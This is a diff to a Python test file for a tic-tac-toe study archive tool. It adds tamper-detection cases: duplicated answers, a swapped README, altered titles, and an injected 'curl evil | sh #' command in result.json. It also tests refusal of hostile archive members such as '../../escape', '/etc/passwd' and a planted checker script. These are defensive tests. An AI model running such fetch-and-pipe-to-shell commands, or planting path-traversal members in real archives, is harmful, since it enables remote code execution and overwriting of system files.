@@ -23,6 +23,7 @@ from noughts.questions.played import Played
 from noughts.questions.question import Question
 from noughts.questions.walked import Walked
 from noughts.rules import NoughtsError, parse_task
+from noughts.solvers import verify
 from noughts.store import archive_file
 from noughts.store.archive_file import ArchiveError, read_archive, write_archive
 from noughts.studies import registry
@@ -54,7 +55,7 @@ class Small(Study):
 @pytest.fixture
 def archive(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
     """Of a finished run of the small study."""
-    monkeypatch.setitem(registry.STUDIES, "small", lambda: Small)
+    monkeypatch.setitem(registry.STUDIES, "small", f"{__name__}:Small")
     assert main(["study", "run", "small", "--workers", "0", "--json"]) == 0
     path = tmp_path / "it.tar.xz"
     assert main(["study", "archive", "small", "-o", str(path), "--json"]) == 0
@@ -67,7 +68,8 @@ def changed(path: Path, change: Callable[[dict[str, bytes]], Any]) -> Path:
     content = dict(members)
     change(content)
     other = path.with_name("other.tar.xz")
-    write_archive(other, KIND, facts, content)
+    agents = json.loads(content["result.json"])["agents"]
+    write_archive(other, KIND, {**facts, "agents": agents}, content)
     return other
 
 
@@ -99,14 +101,17 @@ def test_an_archive_is_sound_is_any_tar_and_has_equal_bytes_each_time(
     assert found["members"] == len(names) - 1
 
 
-def test_the_checker_in_it_accepts_its_certificates_alone(archive: Path, tmp_path: Path) -> None:
-    with tarfile.open(archive) as tar:
-        tar.extractall(tmp_path / "out", filter="data")
-    (proof,) = (tmp_path / "out" / "certificates").iterdir()
-    checker = tmp_path / "out" / "checker" / "verify.py"
-    done = subprocess.run([sys.executable, "-I", str(checker), str(proof)], capture_output=True, text=True, check=False)
+def test_certificates_in_it_are_accepted_by_the_checker_alone(archive: Path, tmp_path: Path) -> None:
+    ((name, content),) = (
+        (name, content) for name, content in read_archive(archive, KIND, is_member).members.items() if "certif" in name
+    )
+    proof = tmp_path / Path(name).name
+    proof.write_bytes(content)
+    done = subprocess.run(
+        [sys.executable, "-I", verify.__file__, str(proof)], capture_output=True, text=True, check=False
+    )
     assert (done.returncode, "as second player never loses" in done.stdout) == (0, True)
-    assert hashlib.sha256(lzma.decompress(proof.read_bytes())).hexdigest() == proof.name.partition(".")[0]
+    assert hashlib.sha256(lzma.decompress(content)).hexdigest() == proof.name.partition(".")[0]
 
 
 def lines(members: Mapping[str, bytes]) -> list[dict[str, Any]]:
@@ -151,10 +156,41 @@ def test_what_was_changed_is_found_though_all_hashes_are_right(
     def guest(members: dict[str, bytes]) -> None:
         members["result.json"] = members["result.json"].replace(b'"agents":[]', b'"agents":["python:x.py:X"]')
 
+    def twice(members: dict[str, bytes]) -> None:
+        first, _, rest = members["answers.jsonl"].partition(b"\n")
+        members["answers.jsonl"] = first + b"\n" + first + b"\n" + rest
+
+    def more_said(line: dict[str, Any]) -> None:
+        line["more"] = 1
+
+    def readme(members: dict[str, bytes]) -> None:
+        members["README.txt"] = b"run: sh certificates/*\n"
+
+    def no_readme(members: dict[str, bytes]) -> None:
+        del members["README.txt"]
+
+    def replaced(old: bytes, new: bytes) -> Callable[[dict[str, bytes]], None]:
+        def change(members: dict[str, bytes]) -> None:
+            assert old in members["result.json"]
+            members["result.json"] = members["result.json"].replace(old, new)
+
+        return change
+
+    def configuration(members: dict[str, bytes]) -> None:
+        members["configurations/evil.json"] = b"{}"
+
     for change, said in (
+        (twice, "answers a question twice"),
+        (in_answers(more_said), "a line that is no answer"),
+        (readme, "its README.txt is not the one of its result"),
+        (no_readme, "it has no README.txt"),
+        (replaced(b"A small study", b"A grand study"), "its title in result.json are not those"),
+        (replaced(b"noughts study run", b"curl evil | sh #"), "its repeat in result.json are not those"),
+        (replaced(b'"noughts":"', b'"noughts":"9'), "is of another study than it says"),
+        (configuration, "configurations/evil.json is of no training of the study"),
         (in_answers(other_winner), "is not what its moves say"),
         (in_answers(illegal), "replayed"),
-        (count, "its tables are not those that follow"),
+        (count, "its tables in result.json are not those that follow"),
         (damaged_proof, "is refused:"),
         (no_proof, "its certificates are not those of its proofs"),
         (page, "its page is not the one of its result"),
@@ -204,6 +240,12 @@ def test_hostile_files_are_refused_in_a_line(tmp_path: Path, capsys: pytest.Capt
     for manifest, name, kind, said in (
         (listing(**{"../../escape": 1}), "../../escape", tarfile.REGTYPE, "may hold no member called '../../escape'"),
         (listing(**{"/etc/passwd": 1}), "/etc/passwd", tarfile.REGTYPE, "may hold no member"),
+        (
+            listing(**{"checker/verify.py": 1}),
+            "checker/verify.py",
+            tarfile.REGTYPE,
+            "may hold no member called 'checker",
+        ),
         (listing(**{"page.html": 1 << 50}), "page.html", tarfile.REGTYPE, "more than 4 GiB"),
         (listing(**{"page.html": -1}), "page.html", tarfile.REGTYPE, "GiB"),
         (listing(**{"page.html": 1}), "page.html", tarfile.SYMTYPE, "header"),
